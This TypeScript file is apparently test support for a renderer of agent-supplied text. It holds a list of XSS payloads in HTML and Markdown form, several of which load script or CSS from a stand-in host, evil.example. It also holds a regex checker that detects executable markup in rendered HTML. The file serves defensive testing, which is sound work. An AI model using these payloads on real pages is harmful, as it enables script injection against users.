/**
 * XSS vectors for agent-supplied text (Markdown and plain), each setting `window.__xss` if it ever
 * runs, and a tolerant check that a rendered page holds no executable markup. The check works on the
 * HTML text (no DOM): it looks for what a browser would execute, not for the escaped vector text.
 */

export const XSS_CORPUS: readonly string[] = [
  '<script>window.__xss=1</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>window.__xss=1</scr</script>ipt>',
  '<img src=x onerror="window.__xss=1">',
  '<svg onload=window.__xss=1>',
  '<svg><script>window.__xss=1</script></svg>',
  '<body onload=window.__xss=1>',
  '<iframe src="javascript:window.__xss=1"></iframe>',
  '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
  '<a href="javascript:window.__xss=1">click</a>',
  '<details open ontoggle=window.__xss=1>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>',
  '<object data="data:text/html,<script>parent.__xss=1</script>"></object>',
  '<embed src="javascript:window.__xss=1">',
  '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">',
  '<base href="https://evil.example/">',
  '<form action="javascript:window.__xss=1"><button>go</button></form>',
  '<input autofocus onfocus=window.__xss=1>',
  '<style>@import "https://evil.example/x.css";</style>',
  '[click](javascript:window.__xss=1)',
  '[click](JaVaScRiPt:window.__xss=1)',
  '[click](javascript&#58;window.__xss=1)',
  '[click](&#106;avascript:window.__xss=1)',
  '[click](java\tscript:window.__xss=1)',
  '[click](vbscript:msgbox(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MTwvc2NyaXB0Pg==)',
  '[click](<javascript:window.__xss=1>)',
  '[click](https://ok.example "title\\" onmouseover=\\"window.__xss=1")',
  '![x](javascript:window.__xss=1)',
  '![x" onerror="window.__xss=1](https://img.example/x.png)',
  '![x](https://img.example/x.png"onerror="window.__xss=1)',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9d2luZG93Ll9feHNzPTE+)',
  '[a][ref]\n\n[ref]: javascript:window.__xss=1',
  '<javascript:window.__xss=1>',
  '&lt;script&gt;window.__xss=1&lt;/script&gt;',
  '&#60;img src=x onerror=window.__xss=1&#62;',
  '\u003cimg src=x onerror=window.__xss=1\u003e',
  '＜script＞window.__xss=1＜/script＞',
  '<img src=x o\u0000nerror=window.__xss=1>',
  '```html\n<script>window.__xss=1</script>\n```',
  '`<img src=x onerror=window.__xss=1>`',
  '"><script>window.__xss=1</script>',
  "'><img src=x onerror=window.__xss=1>",
  '</textarea><script>window.__xss=1</script>',
  '<!--<img src="--><img src=x onerror=window.__xss=1>">',
  '<a href="https://ok.example" onclick="window.__xss=1">ok</a>',
  '[ok](https://ok.example/"><script>window.__xss=1</script>)',
];

/** Attributes of one start tag, parsed as a browser would (quoted values kept whole). */
const ATTRIBUTE = /([^\s"'>/=]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>]+)))?/g;
const TAG = /<([a-zA-Z][a-zA-Z0-9-]*)((?:[^>"']|"[^"]*"|'[^']*')*)>/g;
const SCRIPT_URL = /^\s*(javascript|vbscript|data):/i;
const URL_ATTRIBUTES = new Set([
  'href',
  'src',
  'action',
  'formaction',
  'data',
  'xlink:href',
  'srcdoc',
  'poster',
]);

function decodeEntities(value: string): string {
  return value
    .replace(/&#x([0-9a-f]+);?/gi, (_m, hex: string) => String.fromCodePoint(Number.parseInt(hex, 16)))
    .replace(/&#([0-9]+);?/g, (_m, dec: string) => String.fromCodePoint(Number(dec)))
    .replace(/&colon;/gi, ':')
    .replace(/&tab;|&newline;/gi, '')
    .replace(/&amp;/g, '&');
}

/**
 * Executable markup in `html`: a reason for the first one found, or `undefined` when inert. Every
 * start tag is parsed into its attributes (quoted values kept whole, so escaped text inside a
 * `title` is not mistaken for an attribute); a tag is executable when it is a script or an active
 * element, carries an `on*` attribute, or a URL attribute whose entity-decoded value is a
 * `javascript:`/`vbscript:`/`data:` URL. A whole page (`page: true`) legitimately has its own
 * `<form>`, `<input>`, `<meta charset>`, `<link>` and `<body>`; a Markdown fragment has none.
 */
export function findExecutableMarkup(html: string, options: { page?: boolean } = {}): string | undefined {
  const active = options.page
    ? /^(script|iframe|object|embed|base|svg|math|details|style|frame|frameset|applet|img|video|audio|template)$/i
    : /^(script|iframe|object|embed|base|meta|svg|math|form|input|details|body|style|link|frame|frameset|applet|img|video|audio|template|button|textarea|select)$/i;
  for (const tag of html.matchAll(TAG)) {
    const name = tag[1]!;
    const where = html.slice(Math.max(0, tag.index - 40), tag.index + 120);
    if (active.test(name)) return `active element <${name}>: ${where}`;
    for (const attribute of tag[2]!.matchAll(ATTRIBUTE)) {
      const attr = attribute[1]!.toLowerCase();
      const value = decodeEntities(attribute[2] ?? attribute[3] ?? attribute[4] ?? '');
      if (attr.startsWith('on')) return `event-handler attribute ${attr}: ${where}`;
      // biome-ignore lint/suspicious/noControlCharactersInRegex: browsers drop these inside URLs.
      if (URL_ATTRIBUTES.has(attr) && SCRIPT_URL.test(value.replace(/[\u0000-\u001f]/g, ''))) {
        return `script URL in ${attr}: ${where}`;
      }
      if (name.toLowerCase() === 'meta' && attr === 'http-equiv') return `meta http-equiv: ${where}`;
    }
  }
  return undefined;
}
